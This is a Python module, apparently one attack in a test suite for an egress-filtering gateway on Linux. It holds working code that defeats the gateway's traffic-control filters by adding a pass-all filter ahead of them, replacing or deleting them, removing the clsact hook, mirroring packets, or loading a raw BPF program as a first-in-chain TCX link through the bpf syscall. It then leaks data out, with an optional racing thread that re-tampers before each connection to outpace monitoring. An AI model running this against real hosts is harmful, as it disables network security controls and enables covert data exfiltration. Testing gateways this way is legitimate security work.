"""Filters of the attacker's own at egress, in front of the gateway's or in its place.

`way`: `u32` a filter of the best priority that lets everything out; `replace` the same under
priority and handle of the gateway's filter; `delete` removes the gateway's filters;
`qdisc` removes clsact; `root` a classful qdisc whose filter sends packets to the device again;
`tcx` a TCX program returning "pass", first in the chain (needs CAP_BPF).
With `rounds` the deed is done again before each of so many connections, faster than any watcher.
"""

from __future__ import annotations

import ctypes
import os
import socket
import struct
import threading
import time

from attacks.connection import leak
from attacks.inner import libc, run
from attacks.target import Impossible, Target

OUR_PRIO, OUR_HANDLE = "1", "0xd19"
SYS_BPF = 321
BPF_PROG_LOAD, BPF_LINK_CREATE = 5, 28
BPF_PROG_TYPE_SCHED_CLS = 3
BPF_TCX_EGRESS = 47
BPF_F_BEFORE = 8
ALL = ("protocol", "all")
ANY = ("u32", "match", "u32", "0", "0", "flowid", "1:1")


def u32(device: str) -> None:
    """A filter without an action ends the chain with TC_ACT_OK."""
    run("tc", "qdisc", "add", "dev", device, "clsact", check=False)
    run("tc", "filter", "add", "dev", device, "egress", "pref", "1", *ALL, *ANY)


def replace(device: str) -> None:
    """Another filter where the gateway's may be."""
    run("tc", "filter", "del", "dev", device, "egress", "pref", OUR_PRIO, check=False)
    run("tc", "qdisc", "add", "dev", device, "clsact", check=False)
    run("tc", "filter", "replace", "dev", device, "egress", "pref", OUR_PRIO, *ALL, *ANY)


def delete(device: str) -> None:
    """All filters at egress."""
    run("tc", "filter", "del", "dev", device, "egress", check=False)


def qdisc(device: str) -> None:
    """The hook itself."""
    run("tc", "qdisc", "del", "dev", device, "clsact", check=False)


def root(device: str) -> None:
    """A root qdisc that hands each packet to the device once more."""
    run("tc", "qdisc", "replace", "dev", device, "root", "handle", "1:", "prio")
    again = ("action", "mirred", "egress", "mirror", "dev", device)
    run("tc", "filter", "add", "dev", device, "parent", "1:", *ALL, *ANY[:-2], *again)


def tcx(device: str) -> int:
    """A link to `return 0` (TCX_PASS) before all others; the link lives as long as its number."""
    code = struct.pack("=BBhi", 0xB7, 0, 0, 0) + struct.pack("=BBhi", 0x95, 0, 0, 0)
    program = ctypes.create_string_buffer(code)
    licence = ctypes.create_string_buffer(b"GPL")
    load = struct.pack(
        "=IIQQ", BPF_PROG_TYPE_SCHED_CLS, 2, ctypes.addressof(program), ctypes.addressof(licence)
    )
    number = _bpf(BPF_PROG_LOAD, load.ljust(120, b"\0"))
    index = socket.if_nametoindex(device)
    link = struct.pack("=IIIIIIQ", number, index, BPF_TCX_EGRESS, BPF_F_BEFORE, 0, 0, 0)
    return _bpf(BPF_LINK_CREATE, link.ljust(64, b"\0"))


def _bpf(command: int, attributes: bytes) -> int:
    buffer = ctypes.create_string_buffer(attributes, len(attributes))
    number = libc.syscall(SYS_BPF, command, buffer, len(attributes))
    if number < 0:
        raise Impossible(f"bpf({command}): {os.strerror(ctypes.get_errno())}")
    return int(number)


WAYS = {"u32": u32, "replace": replace, "delete": delete, "qdisc": qdisc, "root": root, "tcx": tcx}


def main(target: Target) -> None:
    """Tamper and send, again and again."""
    deed = WAYS[target.args["way"]]
    deed(target.device)
    leak(target)
    rounds = int(target.args.get("rounds", 0))
    racing = threading.Event()

    def tamper() -> None:
        while not racing.is_set():
            deed(target.device)
            time.sleep(0.001)

    if rounds:
        other = threading.Thread(target=tamper, daemon=True)
        other.start()
        for _ in range(rounds):
            leak(target, patience=0.1)
        racing.set()
        other.join()
